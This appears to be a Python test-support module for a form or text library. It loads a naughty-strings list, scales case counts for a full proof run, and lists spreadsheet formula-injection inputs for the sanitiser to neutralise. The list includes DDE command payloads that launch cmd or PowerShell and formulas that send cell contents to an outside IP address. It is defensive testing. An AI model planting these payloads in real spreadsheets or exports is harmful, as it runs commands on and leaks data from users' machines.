"""How many cases a test takes: few in `make test`, as many as promised in `make proof`."""

from __future__ import annotations

import json
import os
from pathlib import Path

from formkit.kernel import text

FULL = os.environ.get("FORMKIT_PROOF") == "full"
NAUGHTY: list[str] = sorted(
    set(json.loads((Path(__file__).parent / "naughty" / "blns.json").read_text(encoding="utf-8")))
)


FORMULAS = [
    "=1+1", "=", "==1", "=cmd|'/c calc'!A0", "=cmd|'/C powershell IEX(x)'!A0", "=MSEXCEL|'\\..\\x'!''",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"看")', '=WEBSERVICE("http://198.51.100.7/")',
    '=IMPORTXML("http://198.51.100.7/","//a")', '=DDE("cmd";"/c calc";"x")', "=1+1\n第二行",
    "=SUM(A1:A9)", "={1,2}", "=A1", "=@SUM(1)", "=-1", "=+1", '="甲"', "=甲公司", "= 1", "=1;2",
    "+1+1", "+cmd|'/c calc'!A0", "+8613800000001", "+甲", "-1+1", "-cmd|'/c calc'!A0", "-", "-5", "--",
    "@SUM(1+1)", "@甲", "@", "\t=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "'",
    '"=1+1"', "%=1", "|calc", ";=1+1", ",=1",
]  # fmt: skip
"""Texts that a spreadsheet program would work out, if it took them for what they look like (T21)."""


def every_character(*, visible: bool = False) -> str:
    """Return every character that the border lets in, in order; `visible`: into one line (T20)."""
    found = []
    for code_point in range(0x110000):
        try:
            found.append(text.clean(f"甲{chr(code_point)}乙", multiline=not visible)[1:-1])
        except text.Unprintable:
            continue
    return "".join(found)


def cases(few: int, promised: int) -> int:
    """Return how many cases to take."""
    return promised if FULL else few
